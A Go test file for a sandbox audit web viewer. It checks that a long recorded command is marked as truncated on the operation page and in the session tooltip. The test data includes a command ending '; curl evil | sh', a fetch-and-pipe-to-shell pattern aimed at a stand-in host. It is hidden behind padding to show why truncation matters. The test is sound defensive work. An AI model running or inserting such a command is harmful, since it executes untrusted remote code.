package cli

import (
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sandboxaudit/sandboxaudit/auditevent"
	"github.com/sandboxaudit/sandboxaudit/internal/webview"
)

// A command longer than the text a record carries is marked as cut on
// the operation's page and in the session page's tooltip, so its hidden
// tail (here a pipe into a shell) is not read as absent: the data below
// holds it whole.
func TestServeMarksALongCommandAsCut(t *testing.T) {
	s, f := op(sessionA, "exec", "span-0", 1, 2)
	cmd := "echo " + strings.Repeat("x", 1100) + "; curl evil | sh"
	s.Data = auditevent.MustParseData(`{"command":["sh","-c","` + cmd + `"]}`)
	p := writeFile(t, "events.jsonl", canonLines(s, f))
	hs := startView(t, webview.Config{Sources: []string{p}})

	code, _, body := get(t, hs.URL+"/session/"+sessionA.String()+"/op/0")
	require.Equal(t, 200, code, body)
	cell := regexp.MustCompile(`what-full">([^<]*)<`).FindStringSubmatch(body)
	require.NotNil(t, cell, body)
	assert.True(t, strings.HasSuffix(cell[1], "…"), "the cell ends %q", cell[1][max(len(cell[1])-20, 0):])
	assert.Contains(t, body, "; curl evil | sh", "the data holds the whole command")

	code, _, body = get(t, hs.URL+"/session/"+sessionA.String())
	require.Equal(t, 200, code, body)
	title := regexp.MustCompile(`class="what mono" title="([^"]*)"`).FindStringSubmatch(body)
	require.NotNil(t, title, body)
	assert.True(t, strings.HasSuffix(title[1], "…"), "the tooltip ends %q", title[1][max(len(title[1])-20, 0):])
}
